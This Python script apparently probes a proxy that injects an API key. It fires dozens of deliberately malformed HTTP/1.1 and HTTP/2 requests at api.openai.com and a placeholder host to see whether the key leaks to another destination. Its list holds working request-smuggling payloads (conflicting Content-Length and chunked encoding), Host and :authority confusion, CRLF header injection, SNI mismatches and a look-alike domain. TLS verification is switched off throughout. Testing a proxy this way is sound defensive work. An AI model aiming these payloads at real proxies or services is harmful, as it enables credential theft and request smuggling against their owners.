"""shapes.py: asks for the key in every wrong way over raw bytes, and prints each shape with the first line of the answer."""
import os, socket, ssl
import h2.config, h2.connection, h2.events

API, OTHER = "api.openai.com", "other.test"
PROXY = os.environ.get("HTTPS_PROXY", "").removeprefix("http://")


def tcp(host, port):
    if not PROXY:
        return socket.create_connection((host, port), timeout=20)
    s = socket.create_connection(PROXY.rsplit(":", 1), timeout=20)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nhost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        byte = s.recv(1)
        if not byte:
            raise OSError("tunnel closed")
        head += byte
    if b" 200 " not in head.split(b"\r\n")[0]:
        raise OSError(head.split(b"\r\n")[0].decode())
    return s


def tls(host, sni, alpn=()):
    """Trusts anything: the client is the attacker's."""
    context = ssl._create_unverified_context()
    if alpn:
        context.set_alpn_protocols(list(alpn))
    return context.wrap_socket(tcp(host, 443), server_hostname=sni)


def h1(s, request):
    with s:
        s.settimeout(5)
        s.sendall(request.encode("latin-1"))
        try:
            return s.recv(200).split(b"\r\n")[0].decode("latin-1")
        except TimeoutError:
            return "silence"


def get(*hosts, target="/", more=""):
    lines = "".join(f"Host: {host}\r\n" for host in hosts)
    return f"GET {target} HTTP/1.1\r\n{lines}Authorization: Bearer authsome-proxy-managed\r\n{more}Connection: close\r\n\r\n"


def pseudo(authority=API, scheme="https", path="/"):
    authorities = [] if authority is None else [(":authority", authority)]
    return [(":method", "GET"), *authorities, (":scheme", scheme), (":path", path)]


def http2(host, sni, *authorities, extra=()):
    """All on one connection."""
    return http2_of(host, sni, *(pseudo(authority) + [("authorization", "Bearer x"), *extra] for authority in authorities))


def http2_of(host, sni, *requests):
    """Each request is its header fields, in their order on the wire."""
    s = tls(host, sni, ["h2"])
    connection = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False))
    connection.initiate_connection()
    for number, headers in enumerate(requests):
        connection.send_headers(2 * number + 1, headers, end_stream=True)
    s.sendall(connection.data_to_send())
    s.settimeout(5)
    statuses, ended = [], 0
    while ended < len(requests):
        data = s.recv(65535)
        if not data:
            break
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                statuses.append(dict(event.headers).get(b":status", b"").decode())
            ended += isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated))
        s.sendall(connection.data_to_send())
    return " ".join(statuses)


LOOKALIKE = "\u0430pi.openai.com".encode("idna").decode()
SMUGGLED = get(OTHER)
SHAPES = {
    "Host of another": lambda: h1(tls(API, API), get(OTHER)),
    "two Hosts": lambda: h1(tls(API, API), get(API, OTHER)),
    "two Hosts, other order": lambda: h1(tls(API, API), get(OTHER, API)),
    "absolute form": lambda: h1(tls(API, API), get(API, target=f"https://{OTHER}/")),
    "absolute form, Host of another": lambda: h1(tls(API, API), get(OTHER, target=f"https://{API}/")),
    "userinfo": lambda: h1(tls(API, API), get(f"{API}@{OTHER}")),
    "userinfo of another": lambda: h1(tls(API, API), get(f"{OTHER}@{API}")),
    "folded Host": lambda: h1(tls(API, API), get(API, more=f"X-A: b\r\n Host: {OTHER}\r\n")),
    "CONNECT inside": lambda: h1(tls(API, API), f"CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\r\n"),
    "length and chunks": lambda: h1(tls(API, API), f"POST / HTTP/1.1\r\nHost: {API}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SMUGGLED}"),
    "two lengths": lambda: h1(tls(API, API), f"POST / HTTP/1.1\r\nHost: {API}\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n{SMUGGLED}"),
    "another's name, Host of the API": lambda: h1(tls(OTHER, OTHER), get(API)),
    "look-alike": lambda: h1(tls(OTHER, LOOKALIKE), get(API)),
    "no name": lambda: h1(tls(API, None), get(API)),
    "by address": lambda: h1(tls("203.0.113.10", None), get("203.0.113.10")),
    "the API's name at another's tunnel": lambda: h1(tls(OTHER, API), get(API)) if PROXY else "none",
    "another's name at the API's": lambda: h1(tls(API, OTHER), get(OTHER)),
    "plain HTTP": lambda: h1(tcp(API, 80), get(API)),
    "plain HTTP to another": lambda: h1(tcp(OTHER, 80), get(API)),
    "h2c": lambda: h1(tcp(API, 80), get(API, more="Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n")),
    "h2c by knowledge": lambda: h1(tcp(API, 80), "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\0\0\0\4\0\0\0\0\0"),
    "h2, another authority": lambda: http2(API, API, OTHER),
    "h2, reused for another": lambda: http2(API, API, API, OTHER, f"{API}.{OTHER}"),
    "h2, Host of another": lambda: http2(API, API, API, extra=[("host", OTHER)]),
    "h2, userinfo": lambda: http2(API, API, f"{API}@{OTHER}"),
    "h2, userinfo of another": lambda: http2(API, API, f"{OTHER}@{API}"),
    "h2, another port": lambda: http2(API, API, f"{API}:8443"),
    "h2, two authorities": lambda: http2_of(API, API, pseudo() + [(":authority", OTHER)]),
    "h2, two authorities, other order": lambda: http2_of(API, API, pseudo(OTHER) + [(":authority", API)]),
    "h2, authority after a field": lambda: http2_of(API, API, pseudo(None) + [("x-a", "b"), (":authority", OTHER)]),
    "h2, Host alone": lambda: http2_of(API, API, pseudo(None) + [("host", API)]),
    "h2, Host alone, of another": lambda: http2_of(API, API, pseudo(None) + [("host", OTHER)]),
    "h2, no authority": lambda: http2_of(API, API, pseudo(None)),
    "h2, two Hosts": lambda: http2_of(API, API, pseudo() + [("host", API), ("host", OTHER)]),
    "h2, empty authority, Host of another": lambda: http2_of(API, API, pseudo("") + [("host", OTHER)]),
    "h2, absolute path": lambda: http2_of(API, API, pseudo(path=f"https://{OTHER}/")),
    "h2, path that is an authority": lambda: http2_of(API, API, pseudo(path=f"@{OTHER}/")),
    "h2, path of two slashes": lambda: http2_of(API, API, pseudo(path=f"//{OTHER}/")),
    "h2, plain scheme": lambda: http2_of(API, API, pseudo(scheme="http")),
    "h2, odd scheme": lambda: http2_of(API, API, pseudo(scheme=f"https://{OTHER}/?")),
    "h2, CONNECT": lambda: http2_of(API, API, [(":method", "CONNECT"), (":authority", f"{OTHER}:443")]),
    "h2, extended CONNECT": lambda: http2_of(API, API, [(":method", "CONNECT"), (":protocol", "websocket"), *pseudo(OTHER)[1:]]),
    "h2, line break in the authority": lambda: http2(API, API, f"{API}\r\nhost: {OTHER}"),
    "h2, line break in a value": lambda: http2(API, API, API, extra=[("x-a", f"b\r\nhost: {OTHER}")]),
    "h2, hop-by-hop fields": lambda: http2(API, API, API, extra=[("connection", "authorization"), ("transfer-encoding", "chunked")]),
    "h2, look-alike": lambda: http2(API, API, LOOKALIKE),
    "h2, another connected host": lambda: http2(API, API, API, "api.acme.test"),
    "h2, another's name, authority of the API": lambda: http2(OTHER, OTHER, API),
    "h2, trailing dot": lambda: http2(API, API, f"{API}."),
    "h2, upper case": lambda: http2(API, API.upper(), API.upper()),
    "h2, port": lambda: http2(API, API, f"{API}:443"),
    "h2, plainly": lambda: http2(API, API, API),
    "connection-listed": lambda: h1(tls(API, API), get(API, more="X-Forwarded-Host: other.test\r\nConnection: authorization\r\n")),
    "trailing dot": lambda: h1(tls(API, API), get(f"{API}.")),
    "upper case": lambda: h1(tls(API, API.upper()), get(API.upper())),
    "plainly": lambda: h1(tls(API, API), get(API)),
}
for name, ask in SHAPES.items():
    try:
        said = ask()
    except Exception as error:
        said = f"{type(error).__name__}: {error}"
    print(f"{name}: {said}", flush=True)
